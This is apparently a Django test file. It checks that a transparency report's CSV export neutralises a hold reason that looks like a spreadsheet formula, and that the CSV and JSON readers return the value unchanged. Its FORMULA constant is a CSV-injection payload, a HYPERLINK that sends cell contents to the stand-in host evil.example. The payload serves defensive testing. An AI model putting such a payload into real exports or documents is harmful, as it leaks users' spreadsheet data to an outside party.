"""A hold's public reason that looks like a spreadsheet formula is text in every CSV export, and
the readers give it back unchanged."""

from __future__ import annotations

import csv
import io

from django.test import Client
from django.utils import timezone

from govreq.holds.models import JurisdictionHold
from govreq.transparency.readers import read_own_csv, read_own_json
from govreq.transparency.services import report_publish

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def _download(client: Client, suffix: str) -> str:
    response = client.get(f"/transparency/2020-H2/report.{suffix}")
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8")


def test_a_formula_hold_reason_is_neutralised_and_read_back_unchanged(history):
    JurisdictionHold.objects.filter(pk=history.hold_id).update(reason=FORMULA)
    report_publish(actor=history.actor("pat"), period="2020-H2", now=timezone.now())
    client = Client()

    text = _download(client, "csv")
    raw = list(csv.reader(io.StringIO(text, newline="")))
    notes = [row[-1] for row in raw[1:] if row[-1]]
    assert notes and all(note == "'" + FORMULA for note in notes)
    # No cell of the published file starts a formula; numbers are written as numbers.
    for row in raw:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            if cell.startswith("-"):
                float(cell)

    rows = read_own_csv(text)
    holds = [r for r in rows if r["category"] == f"hold:{history.hold_id}"]
    assert holds and {r["note"] for r in holds} == {FORMULA}
    # The JSON export holds the value as it is, and agrees with the CSV read back.
    _, json_rows = read_own_json(_download(client, "json"))
    assert json_rows == rows
